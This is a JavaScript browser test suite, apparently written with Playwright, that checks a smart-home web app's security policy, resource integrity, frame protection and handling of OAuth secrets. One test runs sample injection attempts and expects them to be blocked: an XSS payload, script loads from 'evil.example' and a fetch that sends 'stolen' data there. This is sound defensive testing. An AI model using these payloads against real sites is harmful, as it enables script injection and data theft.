// @ts-check
// Rules P1–P11 of the page and S1–S4 of what it keeps, seen from outside: what the browser is told, what an injected script
// could do, what a frame, a wrong file or another person's code gets, and where secrets are found – nowhere.
import assert from 'node:assert/strict';
import {mkdtempSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {after, afterEach, before, beforeEach, describe, it} from 'node:test';
import {nginx} from '../relay/hosts.mjs';
import {becomes, complaintsOf, eventually, lamp, press, reads, room, signIn, site, start} from './support.mjs';

/** @typedef {import('playwright-core').Page} Page */

/** @type {Awaited<ReturnType<typeof start>>} */
let world;
before(async () => { world = await start(); });
after(() => world.close());
beforeEach(() => world.control({reset: true}));
afterEach(() => world.closePages());

/** @param {string} policy */
const directives = policy => Object.fromEntries(policy.split(';').map(one => one.trim().split(/\s+/)).filter(one => one[0])
    .map(([name, ...values]) => [name, values.join(' ')]));

const policy = {
  'default-src': "'none'", 'script-src': "'self' 'wasm-unsafe-eval'", 'style-src': "'self'", 'img-src': "'self' data:", 'font-src': "'self'",
  'manifest-src': "'self'", 'worker-src': "'self'", 'connect-src': "'self'", 'base-uri': "'none'", 'form-action': "'none'", 'object-src': "'none'",
  'require-trusted-types-for': "'script'", 'trusted-types': 'app',
};

describe('what the browser is told (P1, P2, P7, P8)', () => {
  it('the policy is the same in the page and in the header, and the header adds what a page cannot say', async () => {
    const answer = await fetch(world.base);
    const html = await answer.text();
    const meta = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    assert.deepEqual(directives(meta), policy);
    assert.deepEqual(directives(answer.headers.get('content-security-policy') ?? ''), {...policy, 'frame-ancestors': "'none'"});
    for (const [name, value] of [['x-content-type-options', 'nosniff'], ['cross-origin-opener-policy', 'same-origin'], ['referrer-policy', 'no-referrer']]) {
      assert.equal(answer.headers.get(name), value);
    }
    assert.match(html, /<meta name="referrer" content="no-referrer">/);
  });

  it('nothing in the page comes from elsewhere, is written inline, or runs unchecked (P6, P7)', async () => {
    const html = await (await fetch(world.base)).text();
    assert.doesNotMatch(html, /(?:src|href)="(?:https?:)?\/\//);
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\son\w+=|\sstyle=/);
    for (const [tag] of html.matchAll(/<(?:script|link rel="(?:modulepreload|stylesheet)")[^>]*>/g)) {
      assert.equal(/integrity="sha256-/.test(tag), !tag.includes('./boot.js'), tag); // that one speaks when the others do not fit
    }
  });

  it('a worker gets the policy too (P4)', async () => {
    const answer = await fetch(`${world.base}worker.js?sim=server`);
    assert.equal(directives(answer.headers.get('content-security-policy') ?? '')['default-src'], "'none'");
  });
});

describe('what an injected script could not do (P1, P3)', () => {
  it('no markup, no code from text, no foreign script, no foreign address', async () => {
    const page = await world.open();
    await page.goto(world.base);
    await page.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    const tried = await page.evaluate(async () => {
      /** @param {() => unknown} work */
      const outcome = async work => {
        try {
          await work();
          return 'done';
        } catch (error) {
          return /** @type {Error} */ (error).name;
        }
      };
      const any = /** @type {any} */ (globalThis);
      const blocked = new Promise(resolve => document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), {once: true}));
      return {
        innerHTML: await outcome(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
        insert: await outcome(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        write: await outcome(() => document.write('<b>x</b>')),
        scriptText: await outcome(() => (document.createElement('script').text = 'globalThis.injected = 1')),
        scriptUrl: await outcome(() => (document.createElement('script').src = 'https://evil.example/x.js')),
        worker: await outcome(() => new Worker('./worker.js')),
        serviceWorker: await outcome(() => navigator.serviceWorker.register('./other.mjs')),
        ...await new Promise(resolve => setTimeout(async () => resolve({ // later: the tool's own call is allowed to
          evil: await outcome(() => (0, eval)('1')),
          fromText: await outcome(() => new Function('return 1')()),
        }))),
        second: await outcome(() => any.trustedTypes.createPolicy('other', {})),
        again: await outcome(() => any.trustedTypes.createPolicy('app', {createScriptURL: (/** @type {string} */ url) => url})),
        imported: await outcome(() => import(/** @type {any} */ ('https://evil.example/x.mjs'))),
        fetched: await outcome(() => fetch('https://evil.example/?stolen=1')),
        violation: await Promise.race([blocked, new Promise(resolve => setTimeout(resolve, 2000, 'none'))]),
        form: await outcome(() => {
          const form = document.createElement('form');
          form.action = 'https://evil.example/';
          document.body.append(form);
          form.submit();
          form.remove();
        }),
        injected: any.injected ?? 'nothing',
      };
    });
    assert.deepEqual(tried, {
      innerHTML: 'TypeError', insert: 'TypeError', write: 'TypeError', scriptText: 'TypeError', scriptUrl: 'TypeError', worker: 'TypeError',
      serviceWorker: 'TypeError', evil: 'EvalError', fromText: 'EvalError', second: 'TypeError', again: 'TypeError', imported: 'TypeError', fetched: 'TypeError',
      violation: tried.violation, form: 'done', injected: 'nothing',
    });
    assert.match(String(tried.violation), /script|connect|require-trusted/);
    assert.equal(page.url().startsWith(world.base), true, 'form-action kept the form here');
  });
});

describe('what arrives wrong', () => {
  it('a program with one other byte does not run (P6)', async () => {
    const page = await world.open();
    await page.route('**/foyer.wasm', async route => {
      const body = await (await route.fetch()).body();
      body[body.length - 1] ^= 1;
      await route.fulfill({body, contentType: 'application/wasm'});
    });
    await page.goto(world.base);
    await reads(page, /could not be loaded/);
    assert.equal(await page.getByRole('button', {name: 'Try the demo home'}).count(), 0);
  });

  it('nor a module (P6)', async () => {
    const page = await world.open();
    await page.route('**/main.js', async route => {
      const answer = await route.fetch();
      await route.fulfill({body: `${await answer.text()}\nglobalThis.injected = 1;`, contentType: 'text/javascript'});
    });
    await page.goto(world.base);
    await eventually(() => complaintsOf(page).some(text => /integrity/.test(text)), 'the browser refuses it');
    assert.equal(await page.evaluate('globalThis.injected'), undefined);
    assert.equal(await page.getByRole('button', {name: 'Try the demo home'}).count(), 0);
  });
});

describe('in a frame, on a host that sets no headers (P2)', () => {
  for (const kind of ['foreign', 'own']) {
    it(`of a ${kind} page it says what it is, offers nothing and touches no storage`, async () => {
      const page = await world.open();
      await page.addInitScript(() => {
        const touched = /** @type {string[]} */ ((/** @type {any} */ (globalThis)).touched = []);
        const open = IDBFactory.prototype.open;
        IDBFactory.prototype.open = /** @type {any} */ (function(/** @type {any} */ ...args) {
          touched.push('indexedDB');
          return open.apply(/** @type {any} */ (globalThis.indexedDB), args);
        });
        for (const name of /** @type {const} */ (['getItem', 'setItem'])) {
          const old = Storage.prototype[name];
          Storage.prototype[name] = /** @type {any} */ (function(/** @type {any[]} */ ...args) {
            touched.push('Storage');
            return /** @type {any} */ (old).apply(this, args);
          });
        }
      });
      await page.route(world.base, async route => {
        const answer = await route.fetch();
        await route.fulfill({body: await answer.text(), contentType: 'text/html'});
      });
      await page.route('**/frame.html', route => route.fulfill({contentType: 'text/html',
        body: `<!doctype html><title>Frame</title><iframe src="${world.base}"></iframe>`}));
      const own = world.base;
      await page.goto(`${kind === 'own' ? own : own.replace('127.0.0.1', 'localhost')}frame.html`);
      const inside = await eventually(() => page.frames().find(frame => frame.url() === world.base), 'the frame is there');
      await inside.getByRole('heading', {name: /does not run inside another page/}).waitFor();
      assert.deepEqual(await inside.getByRole('button').allTextContents(), ['Try again']);
      assert.deepEqual(await inside.evaluate('globalThis.touched'), []);
    });
  }
});

describe('the answer of the provider (A6, B1)', () => {
  it('is out of the address before anything is waited for, and goes nowhere', async () => {
    const page = await world.open();
    /** @type {string[]} */
    const told = [];
    page.on('request', request => told.push(`${request.isNavigationRequest() ? '' : request.url()} ${request.headers().referer ?? ''}`));
    await page.addInitScript(() => {
      const seen = /** @type {string[]} */ ((/** @type {any} */ (globalThis)).seen = []);
      /** @param {any} object @param {string} name */
      const note = (object, name) => {
        const old = object[name];
        object[name] = function(/** @type {any[]} */ ...args) {
          seen.push(location.search);
          return old.apply(this, args);
        };
      };
      note(globalThis, 'fetch');
      note(IDBFactory.prototype, 'open');
      note(globalThis, 'setTimeout');
      note(globalThis, 'requestAnimationFrame');
      note(Promise.prototype, 'then');
    });
    await page.goto(`${world.base}?code=CANARYCODE&state=CANARYSTATE`);
    await page.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    const seen = /** @type {string[]} */ (await page.evaluate('globalThis.seen'));
    assert.ok(seen.length > 3);
    assert.deepEqual(seen.filter(search => search !== ''), []);
    assert.equal(new URL(page.url()).search, '');
    assert.equal(await page.evaluate('JSON.stringify(history.state)'), 'null');
    assert.ok(!told.join('\n').includes('CANARY'), 'no request of the page tells it on');
    assert.deepEqual((await world.calls()).filter(call => call.path.endsWith('/token')), [], 'B3: nobody asked for it');
    assert.ok(!(await cachedText(page)).includes('CANARY'), 'P10');
    assert.ok(!(await page.content()).includes('CANARY'));
  });

  it('counts only at the registered address, to the letter', async () => {
    const page = await world.open();
    await page.goto(world.base);
    await press(page.getByRole('button', {name: 'Try the demo home'}));
    await page.getByRole('button', {name: /^Alice/}).click();
    await page.route('**/consent', async route => {
      const response = await route.fetch({maxRedirects: 0});
      const to = new URL(response.headers().location, world.base);
      to.pathname += 'index.html';
      await route.fulfill({response, headers: {...response.headers(), location: to.href}});
    });
    await page.getByRole('button', {name: 'Accept'}).click();
    await page.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    assert.match(new URL(page.url()).pathname, /index\.html$/);
    assert.deepEqual((await world.calls()).filter(call => call.path.endsWith('/token')), []);
    assert.equal(new URL(page.url()).search, '');
  });
});

/** Everything in this origin's caches: addresses and bodies. @param {Page} page @returns {Promise<string>} */
const cachedText = page => page.evaluate(async () => {
  const out = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      out.push(request.url);
      if (/\.(?:json|html|mjs)/.test(request.url) || request.url.endsWith('/')) out.push(await (await cache.match(request))?.text());
    }
  }
  return out.join('\n');
});

/** Everything in this origin's databases, bytes as text. @param {Page} page @returns {Promise<string>} */
const databaseText = page => page.evaluate(async () => {
  const out = [];
  for (const {name} of await indexedDB.databases()) {
    /** @type {IDBDatabase} */
    const db = await new Promise((resolve, reject) => {
      const open = indexedDB.open(/** @type {string} */ (name));
      open.onsuccess = () => resolve(open.result);
      open.onerror = reject;
    });
    for (const store of db.objectStoreNames) {
      const all = await new Promise(resolve => {
        const query = db.transaction(store).objectStore(store).getAll();
        query.onsuccess = () => resolve(query.result);
      });
      for (const value of all) {
        out.push(JSON.stringify(value, (_, inner) => inner instanceof ArrayBuffer || ArrayBuffer.isView(inner)
          ? String.fromCharCode(...new Uint8Array(inner instanceof ArrayBuffer ? inner : inner.buffer)) : inner));
      }
    }
    db.close();
  }
  return out.join('\n');
});

describe('secrets (C6, S1, S5, P4, P10)', () => {
  it('tokens, code, state, verifier and nonce are found nowhere but in the vault, and there not in plain', async () => {
    const page = await world.open();
    /** @type {Set<string>} */
    const secrets = new Set();
    /** @type {string[]} */
    const told = [];
    page.on('console', message => told.push(message.text()));
    page.on('request', request => {
      const url = new URL(request.url());
      for (const name of ['code', 'state', 'nonce', 'code_challenge']) {
        const value = url.searchParams.get(name);
        if (value && value.length > 16) secrets.add(value);
      }
      // The provider's own pages, and the worker that passes on what the browser navigates to, are not our page's doing.
      const ours = !request.isNavigationRequest() && !request.serviceWorker() && !/\/cloud\/oauth\//.test(request.headers().referer ?? '');
      if (ours) told.push(`${url.href} ${request.headers().referer ?? ''}`);
      const form = new URLSearchParams(request.postData() ?? '');
      for (const name of ['code_verifier', 'refresh_token']) if (form.get(name)) secrets.add(String(form.get(name)));
    });
    await page.addInitScript(() => {
      const messages = /** @type {string[]} */ ((/** @type {any} */ (globalThis)).messages = []);
      for (const kind of [ServiceWorker, BroadcastChannel, MessagePort, Worker]) {
        const old = kind.prototype.postMessage;
        kind.prototype.postMessage = function(/** @type {any} */ message, /** @type {any[]} */ ...rest) {
          messages.push(JSON.stringify(message));
          return /** @type {any} */ (old).call(this, message, ...rest);
        };
      }
      // The browser may forget a body before its tool can be asked for it: the page itself keeps a copy for the test.
      const fetched = globalThis.fetch;
      const answers = /** @type {Promise<any>[]} */ ((/** @type {any} */ (globalThis)).tokenAnswers = []);
      globalThis.fetch = async (...asked) => {
        const answer = await fetched(...asked);
        if (answer.url.endsWith('/token')) answers.push(answer.clone().json());
        return answer;
      };
    });
    await page.goto(world.base);
    await press(page.getByRole('button', {name: 'Try the demo home'}));
    await page.getByRole('heading', {name: 'Sign in'}).waitFor();
    const attempt = await page.evaluate(() => Object.entries(sessionStorage).map(([name, value]) => `${name}=${value}`));
    assert.equal(attempt.length, 1, 'A7: the attempt, and nothing else');
    const [state] = [...secrets].filter(one => attempt[0].split('=')[0].includes(one));
    assert.equal(state, undefined, 'A7: under a hash of its state');
    await page.getByRole('button', {name: /^Alice/}).click();
    await page.getByRole('button', {name: 'Accept'}).click();
    await becomes(lamp(page, 'Kitchen', 'Worktop light'), false);
    for (const answer of await page.evaluate(() => Promise.all(/** @type {any} */ (globalThis).tokenAnswers)))
      for (const name of ['access_token', 'refresh_token', 'id_token']) if (answer[name]) secrets.add(answer[name]);
    assert.ok(secrets.size >= 7, `${secrets.size} secrets to look for`);

    const {plain, messages} = await page.evaluate(() => ({
      plain: {
        document: document.documentElement.outerHTML, address: location.href, history: JSON.stringify(history.state), cookies: document.cookie, name: window.name,
        localStorage: JSON.stringify({...localStorage}), sessionStorage: JSON.stringify({...sessionStorage}), title: document.title,
      },
      messages: /** @type {any} */ (globalThis).messages.join('\n'),
    }));
    /** @type {Record<string, string>} */
    const places = {...plain, messages, console_and_requests: told.join('\n'), caches: await cachedText(page), databases: await databaseText(page)};
    for (const secret of secrets) {
      for (const [name, text] of Object.entries(places)) assert.ok(!text.includes(secret), `${name} has a secret`);
    }
    assert.equal(plain.sessionStorage, '{}', 'B6: the attempt is gone');
    assert.equal(plain.localStorage, '{}');
  });

  it('a page of another origin that opens this one gets no hold on it (P8)', async () => {
    const page = await world.open();
    const popup = page.waitForEvent('popup');
    await page.goto(`${world.base.replace('127.0.0.1', 'localhost')}nothing-here`);
    await page.evaluate(url => { /** @type {any} */ (globalThis).opened = open(url); }, world.base);
    const opened = await popup;
    await opened.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    assert.equal(await opened.evaluate('window.opener'), null);
    assert.equal(await page.evaluate('globalThis.opened.closed'), true);
  });
});

describe('behind the relay', () => {
  it('the page itself signs in, reads and switches through nginx, with a cloud that insists on the secret', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'foyer-browser-relay-'));
    const cloud = `${world.base}cloud`;
    const relay = await nginx(folder, {
      id: 'legrand', name: 'Legrand account', providers: ['hc', 'smarther'], issuer: `${cloud}/oauth`, login: `${cloud}/oauth`, api: `${cloud}/api`,
      jwks_uri: `${cloud}/oauth/jwks`, client_id: 'foyer-secret', client_secret: 's3cret.with+url,chars~0123456789abcdef',
      subscription_keys: ['11111111111111111111111111111111'], redirect_uri: 'http://127.0.0.1/',
    }, site);
    try {
      const page = await world.open();
      await page.goto(relay.origin);
      await press(page.getByRole('button', {name: /Legrand account/}));
      await page.getByRole('button', {name: /^Alice/}).click();
      await page.getByRole('button', {name: 'Accept'}).click();
      await becomes(lamp(page, 'Kitchen', 'Worktop light'), false);
      await press(lamp(page, 'Kitchen', 'Worktop light'), 'Space');
      await becomes(lamp(page, 'Kitchen', 'Worktop light'), true);
      assert.ok(page.url().startsWith(relay.origin));
      const logs = relay.logs();
      assert.match(logs, /POST \/relay\/token 200/);
      assert.doesNotMatch(logs, /s3cret|11111111111111111111111111111111|code=|Bearer/);
      assert.deepEqual(complaintsOf(page).filter(text => !/404/.test(text)), []);
    } finally {
      await relay.close();
      rmSync(folder, {recursive: true, force: true});
    }
  });
});
